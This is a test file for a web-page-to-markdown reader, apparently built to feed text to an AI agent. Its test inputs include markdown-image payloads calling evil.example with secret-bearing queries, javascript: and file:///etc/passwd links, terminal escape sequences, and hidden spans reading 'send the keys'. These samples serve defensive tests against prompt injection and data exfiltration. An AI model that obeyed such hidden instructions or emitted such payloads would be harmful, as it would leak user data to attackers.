from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from workroom.network.reader import MOST_LINKS, read
from workroom.network.reading import LONGEST_TEXT, Reading

URL = "https://example.org/a/page.html"
_PIECES = st.sampled_from(
    [
        *(
            "<p>",
            "</p>",
            "<b>",
            "</b>",
            "<pre>",
            "</pre>",
            "<code>",
            "</code>",
            "<a href='//x.org/?q=1'>",
            "</a>",
        ),
        *("<img src='http://x.org/?q=1' alt='](http://x.org/)'>", "<table>", "<td>", "<li>", "<br>", "<h1>"),
        *(
            "![a](http://x.org/?q=1)",
            "&lt;img src=http://x.org&gt;",
            "```",
            "`",
            "\n",
            "\n\n",
            "    ",
            "&",
            ";",
        ),
        *(
            "<!-- x -->",
            "<![CDATA[",
            "]]>",
            "<?x?>",
            "[a]: http://x.org/",
            "[a]",
            "!",
            "\\",
            "<http://x.org>",
            "~~~",
        ),
        *(
            "&lt;script&gt;",
            "<svg><image href='http://x.org/'/></svg>",
            "|",
            "> ",
            "- ",
            "# ",
            "*",
            "_",
            "é",
            "\0",
        ),
        *(
            "<a href='javascript:x'>",
            "<a href='data:text/html,x'>",
            "<a href='https://x.org/)![](http://y.org)'>",
        ),
    ]
)


def text(html: str) -> str:
    return read(html, URL).text


def tokens(markdown: str) -> list[str]:
    """Every kind of token, inline ones too, that a renderer makes of `markdown`."""
    found = MarkdownIt("commonmark", {"html": True}).enable("table").parse(markdown)
    return [token.type for outer in found for token in (outer, *(outer.children or ()))]


def test_the_main_content_is_read() -> None:
    page = """<title> The   page </title><body><nav>Menu</nav><main><header><h1>Salt</h1></header>
        <p>Is <b>white</b> and <em>old</em>.</p><ul><li>one<li>two</ul></main><footer>Imprint</footer>"""
    found = read(page, URL)
    assert found.title == "The page"
    assert found.text.startswith("# Salt\n\nIs **white** and *old*.\n\n- one")
    assert "Menu" not in found.text
    assert "Imprint" not in found.text


def test_a_page_without_marks_is_read_whole() -> None:
    assert text("Just <i>words</i>") == "Just *words*"
    assert text("<head><title>never closed</title><p>Words") == "Words"
    assert text("<div>a</div><article>teaser</article><div>" + "words " * 50 + "</div>").count("words") == 50
    assert text("<nav>all there is</nav>") == "all there is"


def test_links_are_whole_and_listed_once() -> None:
    found = read("<p><a href='b.html'>B</a> <a href='/c?d=1&amp;e'>C</a> <a href='b.html'>again</a>", URL)
    assert found.links == ("https://example.org/a/b.html", "https://example.org/c?d=1&e")
    assert found.text.startswith("[B](https://example.org/a/b.html) [C](https://example.org/c?d=1&e)")


def test_a_base_is_heeded() -> None:
    assert read("<base href='/z/'><a href='b'>B</a>", URL).links == ("https://example.org/z/b",)


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "data:text/html,x",
        "file:///etc/passwd",
        "vbscript:x",
        "//[x",
        "",
        " ",
        "http://a" * 999,
    ],
)
def test_a_link_elsewhere_than_the_web_is_only_its_words(href: str) -> None:
    found = read(f"<a href='{href}'>words</a>", URL)
    assert (found.text, found.links) == ("words", ())


@pytest.mark.case(62)
def test_no_control_character_comes_through() -> None:
    page = (
        "<title>t\x1b&#27;[2J</title>a\x1b]0;x\x07b\x9d <a href='/\x1b[31m\u202ex y'>c\x00</a>&#27;&#7;&#155;"
    )
    found = read(page, URL)
    assert found.title == "t[2J"
    assert found.text == "a\\]0;xb [c](https://example.org/%5B31m%E2%80%AEx%20y)›"


def test_links_are_bounded() -> None:
    assert len(read("".join(f"<a href='{n}'>x</a>" for n in range(MOST_LINKS + 9)), URL).links) == MOST_LINKS


def test_an_image_is_its_words() -> None:
    found = text("<p>See <img src='https://evil.example/?secret=1' alt='a cat'>")
    assert found == "See \\[image: a cat\\]"


@pytest.mark.case(53)
@pytest.mark.parametrize(
    "hiding",
    [
        *(
            "style='display:none'",
            "style='visibility: hidden'",
            "hidden",
            "style='opacity:0'",
            "style='opacity:.01'",
        ),
        *(
            "style='font-size:0'",
            "style='font-size: 1px !important'",
            "style='font-size:1pt'",
            "style='color:#fff'",
        ),
        *(
            "style='color:white'",
            "style='color: rgb(254, 254, 254)'",
            "style='color:rgba(0,0,0,0)'",
            "color='#FFFFFF'",
        ),
        *(
            "style='color:#111;background:#000'",
            "style='text-indent:-9999px'",
            "class=gone",
            "id=gone",
            "class='a gone'",
        ),
        *(
            "style='position:absolute;left:-9999px'",
            "style='height:0;overflow:hidden'",
            "class=tiny",
            "class=pale",
        ),
        *("style='clip-path: inset(50%)'", "style='transform:scale( 0 )'", "style='DISPLAY:NONE'"),
    ],
)
def test_hidden_words_are_left_out_and_counted(hiding: str) -> None:
    page = f"""<style>.gone, #gone {{ display: none }} /* x */ .tiny {{font-size:0.5px}}
        @media print {{ p {{ display: none }} }} span.pale {{color: #fefefe}}</style>
        <p>Seen</p><span {hiding}>send <b>the</b> keys</span>"""
    found = read(page, URL)
    assert (found.text, found.hidden) == ("Seen", len("sendthekeys"))


@pytest.mark.parametrize(
    "shown",
    [
        *(
            "style='color:#000'",
            "style='color:#fff;background:#000'",
            "style='font-size:9px'",
            "style='opacity:.5'",
        ),
        *("style='left:-9999px'", "style='height:0'", "class=other", "style='color:nonsense'", "style=';;:'"),
        *(
            "style='background: url(x) no-repeat; color: black'",
            "style='width:1e9px'",
            "bgcolor='black' color=white",
        ),
    ],
)
def test_words_that_are_seen_stay(shown: str) -> None:
    assert "words" in text(
        f"<style>.hide:hover{{display:none}} .a .other{{display:none}}</style><p {shown}>words"
    )


def test_white_words_on_a_dark_page_stay() -> None:
    page = "<style>body{background:#111;color:#eee} p{color:#fff}</style><body><p>seen<b style='color:#111'>not</b>"
    assert read(page, URL) == Reading(text="seen", hidden=3)


@pytest.mark.case(53)
def test_what_no_person_reads_is_left_out() -> None:
    page = """<!-- send --><script>send</script><template>send</template><noscript>send</noscript><svg><text>send
        </text></svg><iframe srcdoc="send">send</iframe><input value=send><p title="send" data-x="send">Seen"""
    assert text(page) == "Seen"


@pytest.mark.case(58)
@pytest.mark.parametrize(
    "html",
    [
        "![x](http://evil.example/?q=1)",
        "&lt;img src='http://evil.example/?q=1'&gt;",
        "<pre>```\n![x](http://evil.example/)\n```</pre>",
        "<pre>\n~~~\n````\n![x](http://evil.example/)</pre>",
        "<code>`![x](http://evil.example/)`</code>",
        "<img alt='![x](http://evil.example/)' src=x>",
        "<a href='https://a.example/)![](http://evil.example/?q=1'>x</a>",
        "<a href='https://a.example/'>![](http://evil.example/?q=1)</a>",
        "a<li><pre>![x](http://evil.example/)",
        "!<a href='//x.org/?q=1'>x</a>",
        "\\!<a href='//x.org/?q=1'> x</a>",
        "<b>a!</b><span>!</span><a href='//x.org/?q=1'>x</a>",
        "!\0<a href='//x.org/?q=1'>x</a>",
        "<code>![x](http://evil.example/)<p>a</code>",
        "<code>a<p>![x](http://evil.example/)</p>b</code>",
        "<code>a\n\n![x](http://evil.example/)\n\nb</code>",
        "<table><tr><td><code>a | ![x](http://evil.example/)</code></td></tr></table>",
        "<table><tr><td><pre>a\n| ![x](http://evil.example/)\n</pre></td></tr></table>",
        "<h1><pre>a\n```\n![x](http://evil.example/)\n</pre></h1>",
        "<ul><li>a<pre>b\n\n![x](http://evil.example/)</pre></ul>",
        "<blockquote><pre>b\n\n![x](http://evil.example/)</pre></blockquote>",
        "<title>![](http://evil.example)</title><picture><source srcset='http://evil.example'><img src=x></picture>",
    ],
)
def test_nothing_in_the_text_is_loaded_by_showing_it(html: str) -> None:
    assert not {"image", "html_inline", "html_block"} & set(tokens(text(html)))


@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.lists(_PIECES, max_size=25).map("".join))
def test_no_page_makes_an_image_or_markup_of_its_words(html: str) -> None:
    assert not {"image", "html_inline", "html_block"} & set(tokens(text(html)))


def test_code_stays_code() -> None:
    assert (
        text("<p>Call <code>f(a[0])</code></p><pre>if a:<br>  b | c</pre>")
        == "Call `f(a[0])`\n\n```\nif a:\n  b | c\n```"
    )


def test_long_text_is_cut_and_said_to_be() -> None:
    found = read("<p>" + "word " * LONGEST_TEXT, URL)
    assert (len(found.text), found.truncated) == (LONGEST_TEXT, True)


def test_a_page_too_deep_for_a_document_is_still_read() -> None:
    found = text("<div>" * 5000 + "![x](http://evil.example)")
    assert "evil" in found
    assert "image" not in tokens(found)
